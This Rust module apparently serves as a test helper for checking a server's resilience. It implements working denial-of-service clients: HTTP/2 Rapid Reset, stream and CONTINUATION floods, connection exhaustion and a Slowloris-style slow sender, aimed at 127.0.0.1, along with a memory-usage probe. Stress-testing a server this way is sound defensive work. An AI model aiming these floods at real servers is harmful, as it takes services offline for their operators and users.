//! Clients that mean harm: what they send is legal, and far too much of it.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

/// A way to be too much.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Flood {
    /// HTTP/2 requests that are reset as soon as they are sent.
    RapidReset,
    /// HTTP/2 streams that are opened and never ended.
    Streams,
    /// A head whose end never comes.
    Continuations,
    /// Connections that say nothing.
    Connections,
    /// Connections that say one byte after the other.
    Slowly,
}

/// All of them.
pub const ALL: [Flood; 5] =
    [Flood::RapidReset, Flood::Streams, Flood::Continuations, Flood::Connections, Flood::Slowly];

/// What a flood got rid of.
#[derive(Clone, Copy, Default, Debug)]
pub struct Poured {
    pub connections: u64,
    pub requests: u64,
}

impl Flood {
    /// Goes on until a moment; floods of connections hold so many open.
    pub fn pour(self, at: SocketAddr, until: Instant, held: usize) -> Poured {
        match self {
            Flood::Connections | Flood::Slowly => self.hold(at, until, held),
            _ => self.send(at, until),
        }
    }

    fn send(self, at: SocketAddr, until: Instant) -> Poured {
        let mut poured = Poured::default();
        while Instant::now() < until {
            let Some(mut socket) = connect(at) else { continue };
            poured.connections += 1;
            let mut first = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
            frame(&mut first, 4, 0, 0, &[]);
            if socket.write_all(&first).is_err() {
                continue;
            }
            let mut id = 1;
            // A batch a time, until the server has had enough of us.
            while Instant::now() < until && id < 1_000_000 {
                let mut batch = Vec::new();
                for _ in 0..50 {
                    self.request(&mut batch, id);
                    id += 2;
                    poured.requests += 1;
                }
                if socket.write_all(&batch).is_err() || is_over(&mut socket) {
                    break;
                }
            }
        }
        poured
    }

    fn request(self, out: &mut Vec<u8>, id: u32) {
        // :method GET, :scheme http, :path /, :authority 127.0.0.1
        let mut head = vec![0x82, 0x86, 0x84, 0x41, 9];
        head.extend_from_slice(b"127.0.0.1");
        match self {
            Flood::RapidReset => {
                frame(out, 1, 0x5, id, &head);
                frame(out, 3, 0, id, &8_u32.to_be_bytes());
            }
            Flood::Continuations => {
                // A literal header that is never indexed, over and over.
                let mut more = vec![0x10, 1, b'a', 100];
                more.extend_from_slice(&[b'x'; 100]);
                frame(out, if id == 1 { 1 } else { 9 }, 0, 1, if id == 1 { &head } else { &more });
            }
            _ => frame(out, 1, 0x4, id, &head),
        }
    }

    fn hold(self, at: SocketAddr, until: Instant, held_max: usize) -> Poured {
        let mut poured = Poured::default();
        let mut held: Vec<TcpStream> = Vec::new();
        let mut turn = 0;
        while Instant::now() < until {
            if held.len() < held_max {
                held.extend(connect(at));
                poured.connections += 1;
            } else {
                std::thread::sleep(Duration::from_millis(1));
            }
            if held.is_empty() {
                continue;
            }
            turn = (turn + 1) % held.len();
            if self == Flood::Slowly {
                let text = b"GET / HTTP/1.1\r\nX-Slow: ";
                let byte = text.get(turn % 64).copied().unwrap_or(b'x');
                if held[turn].write_all(&[byte]).is_err() {
                    held.swap_remove(turn);
                }
            }
        }
        poured
    }
}

fn connect(at: SocketAddr) -> Option<TcpStream> {
    let socket = TcpStream::connect_timeout(&at, Duration::from_millis(500)).ok()?;
    socket.set_write_timeout(Some(Duration::from_millis(500))).ok()?;
    socket.set_read_timeout(Some(Duration::from_millis(1))).ok()?;
    Some(socket)
}

/// Takes what the server says; true when it said its last word.
fn is_over(socket: &mut TcpStream) -> bool {
    let mut buffer = [0; 16 * 1024];
    matches!(socket.read(&mut buffer), Ok(0))
}

/// Appends a frame of HTTP/2.
fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    out.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// Resident bytes of a process.
pub fn resident(pid: u32) -> u64 {
    let pages = std::fs::read_to_string(format!("/proc/{pid}/statm")).ok();
    let pages = pages.and_then(|text| text.split(' ').nth(1)?.parse::<u64>().ok());
    pages.unwrap_or_default() * 4096
}
